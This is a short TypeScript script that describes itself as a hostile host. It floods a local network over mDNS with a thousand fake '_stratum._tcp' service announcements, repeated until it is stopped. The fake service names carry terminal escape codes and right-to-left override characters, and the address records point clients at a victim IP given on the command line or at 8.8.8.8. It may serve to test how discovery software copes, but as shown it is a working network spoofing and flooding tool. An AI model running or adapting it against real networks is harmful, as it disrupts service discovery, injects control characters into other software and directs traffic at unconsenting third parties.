/** A hostile host: answers by mDNS for services that nobody has, a thousand of them, and goes on until it is ended. */
import multicastDns from 'multicast-dns';

const [own = '', victim = ''] = process.argv.slice(2);
const socket = multicastDns({ interface: own, bind: '0.0.0.0' });
const TYPE = '_stratum._tcp.local';

const flood = () => {
  for (let packet = 0; packet < 50; packet++) {
    const numbers = Array.from({ length: 20 }, (_, index) => packet * 20 + index);
    socket.respond({
      answers: numbers.flatMap((number) => {
        const name = `\x1b[31mBest stack ${number}\u202e.${TYPE}`;
        const target = `bogus-${number}.local`;
        return [
          { name: TYPE, type: 'PTR', ttl: 4500, data: name } as const,
          { name, type: 'SRV', ttl: 4500, data: { target, port: 3000 + (number % 500) } } as const,
          { name: target, type: 'A', ttl: 4500, data: number % 2 === 0 ? victim : '8.8.8.8' } as const,
        ];
      }),
    });
  }
};

setInterval(flood, 300);
flood();
process.stdout.write('flooding\n');
